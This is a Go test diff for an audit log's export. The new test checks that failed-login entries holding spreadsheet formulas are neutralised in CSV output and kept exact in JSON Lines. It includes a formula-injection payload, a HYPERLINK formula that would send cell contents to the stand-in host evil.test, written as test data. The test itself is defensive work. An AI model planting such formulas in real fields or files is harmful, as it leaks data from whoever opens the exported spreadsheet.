@@ -293,6 +293,29 @@ func TestExportStreamsAndIsAudited(t *testing.T) {
 	if err := l.Export(ctx, auditor, audit.Filter{}, "xml", &buf); err == nil {
 		t.Fatal("export as xml: got no error")
 	}
+
+	// A name typed at the sign-in form is text in a spreadsheet, not a formula; JSON
+	// Lines keeps it exact.
+	formula := `=HYPERLINK("http://evil.test/?"&A2,"open")`
+	if err := audit.AppendAlone(ctx, pool, audit.Entry{Actor: audit.Actor{Kind: audit.ActorAnonymous, Name: formula}, Action: "user.login_failed",
+		TargetType: "user", TargetName: "@SUM(1+1)", Result: audit.ResultFailure}); err != nil {
+		t.Fatal(err)
+	}
+	buf.Reset()
+	if err := l.Export(ctx, auditor, audit.Filter{Action: "user.login_failed"}, audit.FormatCSV, &buf); err != nil {
+		t.Fatal(err)
+	}
+	if recs, err := csv.NewReader(&buf).ReadAll(); err != nil || len(recs) != 2 || recs[1][4] != "'"+formula || recs[1][9] != "'@SUM(1+1)" {
+		t.Fatalf("csv of a formula: %q, %v", recs, err)
+	}
+	buf.Reset()
+	if err := l.Export(ctx, auditor, audit.Filter{Action: "user.login_failed"}, audit.FormatJSONL, &buf); err != nil {
+		t.Fatal(err)
+	}
+	var e audit.ExportEntry
+	if err := json.Unmarshal(buf.Bytes(), &e); err != nil || e.ActorName != formula {
+		t.Fatalf("jsonl of a formula: %+v, %v", e, err)
+	}
 }
 
 func TestSavedViews(t *testing.T) {
